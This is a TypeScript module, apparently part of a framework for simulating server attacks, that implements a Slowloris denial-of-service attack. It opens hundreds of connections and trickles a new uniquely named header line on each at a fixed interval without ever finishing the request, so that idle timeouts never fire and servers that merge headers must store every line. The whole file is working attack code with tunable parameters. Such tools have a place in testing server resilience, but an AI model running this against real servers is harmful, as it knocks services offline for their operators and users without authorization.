import { z } from 'zod';
import { attackOf } from './attack.ts';
import { openingShape, reopenShape } from './script/opening.ts';
import { requestHead } from './script/request-text.ts';

/**
 * Slowloris: a request whose headers never end. Each line arrives early enough for every idle timeout; only a deadline for the whole
 * header stops it.
 */
export const attack = attackOf({
  kind: 'slow-headers',
  summary: 'Slowloris: sends one more header line every interval and never the last one.',
  defaultForMs: 15_000,
  parameters: z.object({
    ...openingShape({ connections: 500, perSecond: 200, path: '/' }),
    ...reopenShape,
    intervalMs: z.number().min(10).max(600_000).default(1000).describe('interval between two header lines'),
    lineBytes: z.int().min(6).max(4096).default(24).describe('bytes per line'),
  }),
  script: (parameters, target) => {
    const { intervalMs, lineBytes, path } = parameters;
    const first = requestHead(target, 'GET', path, ['User-Agent: Mozilla/5.0', 'Accept: */*']);
    return {
      opening: parameters,
      step: (_connection, turn) => ({ write: turn === 0 ? first : headerLine(turn, lineBytes), intervalMs }),
    };
  },
});

/** A header line with a new name each time, so that a server that merges equal names has to store all of them. */
function headerLine(turn: number, bytes: number): string {
  const start = `X-${turn}: `;
  return `${start}${'a'.repeat(Math.max(1, bytes - start.length - 2))}\r\n`;
}
